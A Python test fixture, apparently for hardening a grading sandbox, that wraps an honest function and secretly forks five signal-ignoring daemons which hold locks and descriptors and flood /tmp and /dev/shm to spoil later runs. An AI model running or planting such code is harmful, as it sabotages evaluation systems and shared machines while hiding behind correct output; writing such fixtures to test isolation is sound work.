# attack: stopping-daemons  expect: scored=honest  alone: slot_error
"""Leave daemons behind that hold every descriptor, folder and lock they can, and wait to spoil the next run."""

import contextlib
import fcntl
import os
import signal
import time

DONE = []


def haunt(number):
    """Stay: in a session of its own, deaf, in a folder of its own, and busy now and then."""
    os.setsid()
    if os.fork():
        os._exit(0)
    for each in signal.valid_signals():
        with contextlib.suppress(OSError):
            signal.signal(each, signal.SIG_IGN)
    os.makedirs(f"/tmp/ghost/{number}", exist_ok=True)
    os.chdir(f"/tmp/ghost/{number}")
    kept = [open(f"{place}", "w") for place in range(20)]
    fcntl.flock(kept[0], fcntl.LOCK_EX)
    while True:
        for folder in ("/tmp", "/dev/shm"):
            with contextlib.suppress(OSError):
                open(f"{folder}/{os.getpid()}-{time.monotonic_ns()}", "w").close()
        time.sleep(0.1)


def attack(honest, *arguments):
    if not DONE:
        DONE.append(True)
        for number in range(5):
            if not os.fork():
                try:
                    haunt(number)
                finally:
                    os._exit(0)
    return honest(*arguments)
